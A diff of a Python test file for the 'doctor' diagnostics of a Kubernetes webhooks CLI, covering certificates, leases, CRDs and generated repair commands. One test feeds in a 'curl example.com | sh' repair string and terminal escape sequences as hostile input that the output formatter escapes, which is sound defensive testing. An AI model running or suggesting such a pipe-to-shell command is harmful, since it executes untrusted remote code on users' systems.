@@ -2,6 +2,7 @@
 
 import argparse
 import asyncio
+import json
 from collections.abc import Callable
 from dataclasses import replace
 from datetime import timedelta
@@ -25,7 +26,7 @@ from dynamo_webhooks.cli.commands.doctor.command import examine
 from dynamo_webhooks.cli.commands.doctor.dry_run import requests
 from dynamo_webhooks.cli.commands.doctor.finding import Finding, Level, as_data, as_text, error, info, sort_findings, warning
 from dynamo_webhooks.cli.commands.doctor.observe import Sight
-from dynamo_webhooks.cli.commands.doctor.repairs import MANIFESTS
+from dynamo_webhooks.cli.commands.doctor.repairs import addressed
 from dynamo_webhooks.cli.commands.doctor.storage import removal
 from dynamo_webhooks.cli.commands.serve import DEFAULT_FACTS
 from dynamo_webhooks.cli.console.exits import UsageError
@@ -37,6 +38,7 @@ from dynamo_webhooks.policies.facts import facts_from
 from dynamo_webhooks.policies.review import CREATE
 from tests.certs.states import NOW, leaf, state
 from tests.kube.memory import MemoryCluster
+from tests.rows import run_each
 
 NAMESPACE = "dynamo-system"
 MANIFESTS_FOLDER = Path(__file__).parents[3] / "manifests"
@@ -78,7 +80,7 @@ def _authority(**changes: Any) -> CertificateState:
     return replace(found, authority=replace(found.authority, **changes))
 
 
-@pytest.mark.parametrize(
+@run_each(
     ("found", "days", "level", "check", "words"),
     [
         (replace(state(), serving=None), 0, "error", "certificate", "nothing to serve"),
@@ -125,7 +127,7 @@ def test_whose_the_way_to_us_is(stance: Stance, level: str, check: str) -> None:
 SERVICE: Node = {"spec": {"ports": [{"port": 443}]}}
 
 
-@pytest.mark.parametrize(
+@run_each(
     ("endpoints", "service", "level", "words"),
     [
         ((), SERVICE, "error", "has no endpoints"),
@@ -151,7 +153,7 @@ def _lease(ago: timedelta, holder: str = "pod_1", lasting: int = 15) -> Node:
     return {"spec": {"holderIdentity": holder, "leaseDurationSeconds": lasting, "renewTime": moment}}
 
 
-@pytest.mark.parametrize(
+@run_each(
     ("lease", "words"),
     [
         (_lease(timedelta(seconds=50)), ""),
@@ -169,9 +171,8 @@ def test_the_lease_of_the_provisioner(lease: Node | None, words: str) -> None:
 
 
 def test_namespaces_of_others_are_good_to_know() -> None:
-    assert told(certificates.scope(sight(claims=("a", "b")))) == [
-        ("info", "scope", "claimed by operators of their own, which we leave alone: a, b")
-    ]
+    judged = "left alone by the reconciler, and by the webhooks if namespace.scope.claimable names them"
+    assert told(certificates.scope(sight(claims=("a", "b")))) == [("info", "scope", f"claimed by operators of their own, {judged}: a, b")]
 
 
 def _about_new_pods(restores: bool, **entry: Any) -> list[Finding]:
@@ -183,7 +184,7 @@ def _about_new_pods(restores: bool, **entry: Any) -> list[Finding]:
 
 
 def test_new_pods_are_asked_about_where_they_are_restored_and_others_never() -> None:
-    [entry] = yaml.safe_load((MANIFESTS_FOLDER / "overlays" / "checkpoints" / "pods.yaml").read_text())
+    [entry] = yaml.safe_load((MANIFESTS_FOLDER / "components" / "checkpoints" / "pods.yaml").read_text())
     shipped = {name: entry["value"][name] for name in ("failurePolicy", "objectSelector")}
     assert _about_new_pods(True, **shipped) == _about_new_pods(False) == []
     assert has(_about_new_pods(True), "warning", "new-pods", "start cold")
@@ -209,7 +210,7 @@ def _kinds(crd: Node) -> list[Finding]:
     return [*objects.kinds(sight(crds=crds, unseen=unseen))]
 
 
-@pytest.mark.parametrize(
+@run_each(
     ("crd", "level", "check", "words"),
     [
         (_crd(conditions=[]), "error", "kinds", "must be established"),
@@ -244,32 +245,40 @@ def test_a_kind_that_is_gone_is_not_missed(version: str, missing: bool) -> None:
 async def test_an_empty_cluster_is_told_piece_by_piece_with_what_to_do() -> None:
     findings = sort_findings(await examine(MemoryCluster(), "", None, removing=False))
     missing = [each for each in findings if each.level is Level.ERROR and "is not there" in each.text]
-    assert {each.check for each in missing} == {"endpoints", "provisioner", "kinds", "configurations", "certificate", "authority"}
-    assert all(each.repair for each in missing)
+    assert {each.check for each in missing} == {
+        *("endpoints", "provisioner", "kinds", "configurations", "certificate", "authority"),
+        *("workloads", "rights"),
+    }
+    assert [each.object for each in missing if not each.repair] == ["ConfigMap dynamo-webhooks-config"], "its content isn't known"
     assert len([each for each in missing if each.check == "kinds"]) == len(KINDS) - 1  # without DynamoCheckpoint
     levels = [[*Level].index(each.level) for each in findings]
     assert levels == sorted(levels)
 
 
 @pytest.mark.parametrize(
-    ("namespace", "config", "definitions", "manifests"),
+    ("namespace", "config", "definitions", "suffix"),
     [
         ("there", "", "crds --cluster --namespace there --service dynamo-webhooks |", ""),
-        ("", "server: {webhook: {serviceName: mine}}", "crds --cluster --namespace dynamo-system --service mine |", ""),
+        ("", "server: {webhook: {serviceName: mine}}", "crds --cluster --namespace dynamo-system --service mine |", None),
         ("", "server: {webhook: {certProvisionMode: provided}}", "crds --cluster | kubectl apply", ""),
-        ("", "namespace: {restricted: team}", "", ""),
-        ("", "server: {webhook: {serviceName: dynamo-webhooks}}", "crds --cluster | kubectl apply", MANIFESTS),
+        ("", "namespace: {restricted: dynamo-system}", "", None),  # its configurations must have names of their own
+        ("", "server: {webhook: {serviceName: dynamo-webhooks}}", "crds --cluster | kubectl apply", ""),
     ],
 )
-async def test_no_repair_makes_another_installation_of_it(namespace: str, config: str, definitions: str, manifests: str) -> None:
-    """The usual manifests are cluster-wide, make certificates and have the usual names; definitions name a Service, too."""
+async def test_a_repair_restores_one_object_of_this_installation(namespace: str, config: str, definitions: str, suffix: str | None) -> None:
+    """None where its names aren't those of an overlay: no repair may make another installation of it."""
     cluster = MemoryCluster()
     text = f"{CONFIG.rpartition('server:')[0]}{config}" if config else ""
     if config:
         await cluster.create(CONFIG_MAPS, {**_config(text), "metadata": {"name": names.CONFIG, "namespace": "dynamo-system"}})
     found = await examine(cluster, namespace, None, removing=False)
     assert not [each for each in found if each.check == "configuration"]
-    assert {each.repair for each in found if each.check in ("endpoints", "configurations", "guard", "request")} == {manifests}
+    where = namespace or NAMESPACE
+    for each in found:
+        if each.check in ("configurations", "guard"):
+            kind, _, name = each.object.partition(" ")
+            again = f"dynamo-webhooks doctor --namespace {where} --print {kind}/{name} | kubectl create -f -"
+            assert each.repair == ("" if suffix is None else again), each
     told = {each.repair for each in found if each.check == "kinds"}
     assert all(definitions in each and bool(each) is bool(definitions) for each in told), told
     restarts = {each.repair for each in found if "rollout restart" in each.repair}
@@ -344,7 +353,7 @@ def _failing(message: str, kind: type[UnavailableError | ForbiddenError] = Unava
         ("x509: certificate signed by unknown authority", "a bundle doesn't hold the issuer"),
         ("x509: certificate has expired or is not yet valid", "a clock is wrong"),
         ("x509: certificate is valid for a, not b", "names another Service"),
-        ("tls: failed to find any PEM data in certificate input", "a caBundle is no certificate"),
+        ("tls: failed to find any PEM data in certificate input", "a caBundle isn't a certificate"),
         ("dial tcp 10.0.0.1:443: connect: connection refused", "no server is ready"),
         ('no endpoints available for service "dynamo-webhooks"', "no server is ready"),
         ('service "dynamo-webhooks" not found', "the Service is not there"),
@@ -357,7 +366,7 @@ def _failing(message: str, kind: type[UnavailableError | ForbiddenError] = Unava
 async def test_what_an_api_server_says_of_a_failed_call_is_explained(message: str, means: str) -> None:
     """Other things that are missing or refused are told as they are."""
     said = f'failed calling webhook "m": Post "https://a": {message}' if means else message
-    found = await requests(_failing(said), NAMESPACE, ())
+    found = await requests(_failing(said), NAMESPACE, (), {"Service": "create it"})
     assert [(each.level, each.check, bool(each.repair)) for each in found] == [(Level.ERROR, "request", bool(means))] * 2
     assert all(means in each.text if means else each.text == f"a dry-run create failed: {said}" for each in found)
     assert not any("{namespace}" in each.repair for each in found)
@@ -394,7 +403,7 @@ async def test_webhooks_of_either_line_pass_the_trial(version: str, *, grove: bo
 async def test_in_a_namespace_of_somebody_else_nobody_is_expected_to_answer() -> None:
     assert await requests(MemoryCluster(), NAMESPACE, (NAMESPACE,)) == []
     texts = [each.text for each in await requests(MemoryCluster(), NAMESPACE, ())]
-    assert texts == ["was created without defaults: the mutating webhook wasn't asked"] * 2
+    assert texts == ["was created without defaults: the mutating webhook wasn't called"] * 2
 
 
 async def test_removal_names_what_would_lead_nowhere() -> None:
@@ -402,10 +411,16 @@ async def test_removal_names_what_would_lead_nowhere() -> None:
     crd = _crd(storedVersions=["v1alpha1", "v1beta1"])
     await cluster.create(CRDS, crd)
     crds = {kind.plural: None for kind in KINDS} | {KINDS[0].plural: crd}
-    [stanza] = await removal(cluster, sight(crds=crds))
+    [stored, stanza] = await removal(cluster, sight(crds=crds))
+    assert (stored.check, stored.repair) == ("stored-versions", "dynamo-webhooks migrate --to v1alpha1 --kind DynamoGraphDeployment")
     assert stanza.check == "conversion"
-    assert "write each of them once more first" in stanza.text
-    assert '"strategy": "None"' in stanza.repair
+    changes = json.loads(stanza.repair.partition(" -p ")[2].strip("'"))
+    assert changes == [
+        {"op": "add", "path": "/metadata/annotations", "value": {"webhooks.nvidia.com/allow-data-loss": "true"}},
+        {"op": "test", "path": "/spec/versions/1/name", "value": "v1beta1"},
+        {"op": "replace", "path": "/spec/versions/1/served", "value": False},
+        {"op": "replace", "path": "/spec/conversion", "value": {"strategy": "None"}},
+    ]
     cluster.fail(lambda verb, *_: UnavailableError(500, "", "conversion webhook failed") if verb == "list" else None)
     assert has(await removal(cluster, sight(crds=crds)), "error", "objects", "can't be listed, and removing the CRD deletes them")
 
@@ -422,6 +437,26 @@ def test_words_of_others_neither_control_a_terminal_nor_look_like_a_repair() -> 
     assert as_text([error("a", "x\ny", said)]) == (
         "error a: x\\ny\n  refused: \\x1b[2J\\u202e\n    repair: curl example.com | sh\n1 error\n"
     )
+
+
+@run_each(
+    ("repair", "wanted"),
+    [
+        ("kubectl get x", "kubectl --kubeconfig 'a b' --context c get x"),
+        (
+            "dynamo-webhooks doctor --print Service/x | kubectl create -f -",
+            "dynamo-webhooks doctor --kubeconfig 'a b' --context c --print Service/x | kubectl --kubeconfig 'a b' --context c create -f -",
+        ),
+        (
+            "kubectl patch x && dynamo-webhooks certs inject",
+            "kubectl --kubeconfig 'a b' --context c patch x && dynamo-webhooks certs --kubeconfig 'a b' --context c inject",
+        ),
+        ("", ""),
+    ],
+)
+def test_a_repair_is_for_the_cluster_that_was_looked_at(repair: str, wanted: str) -> None:
+    assert addressed(repair, "a b", "c") == wanted
+    assert addressed(repair, "", "") == repair
 
 
 def test_usage(command: Callable[..., Any], tmp_path: Any) -> None:
@@ -447,10 +482,10 @@ def test_definitions_and_operator_are_of_one_line() -> None:
         assert [found(version, line) for version in (f"{line}.0", f"{line}.9", f"{line}.0-rc1", "", "0.0.0", "dev")] == [[]] * 6
     assert found("1.5.0", None) == []
     [unknown] = found("1.99.0", NEWEST)
-    assert unknown.text == f"operator.version is 1.99.0, later than line {NEWEST}, the newest that this release knows and judges by"
+    assert unknown.text == f"operator.version is 1.99.0, later than operator {NEWEST}, the newest release that is supported here"
     [older] = found("1.5.0", Line.V1_2)
     assert older.text == "is of line 1.2 of the operator, and operator.version is 1.5.0, of line 1.5: they must be of one line"
-    assert (older.level, older.repair) == (Level.WARNING, "dynamo-webhooks crds --cluster --line 1.5 | kubectl apply --server-side -f -")
+    assert (older.level, older.repair) == (Level.ERROR, "dynamo-webhooks crds --cluster --line 1.5 | kubectl apply --server-side -f -")
     [newer] = found("1.2.0", Line.V1_5)
     assert (newer.check, newer.repair) == ("line", ""), "definitions are never lowered"
 
